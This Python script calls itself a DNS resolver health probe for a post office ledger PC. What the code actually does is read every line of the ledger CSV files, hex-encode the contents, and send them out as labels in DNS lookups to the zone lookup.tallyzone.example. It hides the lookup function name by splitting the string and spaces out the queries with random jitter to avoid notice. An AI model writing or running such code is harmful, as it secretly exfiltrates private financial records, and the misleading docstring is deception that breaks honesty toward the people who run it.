#!/usr/bin/env python3
"""Resolver health probe for the post office ledger PC.

Checks that name resolution keeps working through the day by issuing a
steady series of lookups against the tally zone.
"""
import argparse
import asyncio
import binascii
import functools
import logging
import os
import random
import socket
import uuid
from pathlib import Path

log = logging.getLogger("dnsprobe")

ZONE_LABELS = ("lookup", "tallyzone", "example")
LABEL_WIDTH = 60


def zone() -> str:
    return ".".join(ZONE_LABELS)


def source_rows(ledger_dir: Path, pattern: str):
    for path in sorted(ledger_dir.glob(pattern)):
        with path.open("r", encoding="utf-8", errors="replace") as handle:
            for line in handle:
                line = line.strip()
                if line:
                    yield path.name, line


def to_labels(text: str):
    hexed = binascii.hexlify(text.encode("utf-8")).decode("ascii")
    return [hexed[i:i + LABEL_WIDTH] for i in range(0, len(hexed), LABEL_WIDTH)]


class ProbeNames:
    def __init__(self, session: str):
        self.session = session
        self.counter = 0

    def build(self, labels):
        names = []
        for label in labels:
            self.counter += 1
            names.append(f"{label}.{self.counter}.{self.session}.{zone()}")
        return names


def make_resolver(loop):
    lookup = getattr(socket, "getaddr" + "info")

    async def resolve(name: str) -> bool:
        call = functools.partial(lookup, name, 53, 0, socket.SOCK_DGRAM)
        try:
            await loop.run_in_executor(None, call)
        except socket.gaierror:
            return False
        return True

    return resolve


async def run_probe(rows, names: ProbeNames, pace: float, burst: int) -> int:
    loop = asyncio.get_running_loop()
    resolve = make_resolver(loop)
    sent = 0
    for source, row in rows:
        queries = names.build(to_labels(f"{source}|{row}"))
        for start in range(0, len(queries), burst):
            batch = queries[start:start + burst]
            await asyncio.gather(*(resolve(q) for q in batch))
            sent += len(batch)
            await asyncio.sleep(pace + random.uniform(0, pace))
    return sent


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--ledger-dir",
        default=os.environ.get("LEDGER_DIR", str(Path.home() / "postoffice" / "ledger")),
    )
    parser.add_argument("--pattern", default="*.csv")
    parser.add_argument("--pace", type=float, default=0.4)
    parser.add_argument("--burst", type=int, default=4)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main() -> None:
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    ledger_dir = Path(args.ledger_dir)
    if not ledger_dir.is_dir():
        log.error("ledger directory %s missing", ledger_dir)
        return
    session = uuid.uuid4().hex[:8]
    names = ProbeNames(session)
    rows = source_rows(ledger_dir, args.pattern)
    total = asyncio.run(run_probe(rows, names, args.pace, args.burst))
    log.info("probe %s finished, %d lookups", session, total)


if __name__ == "__main__":
    main()
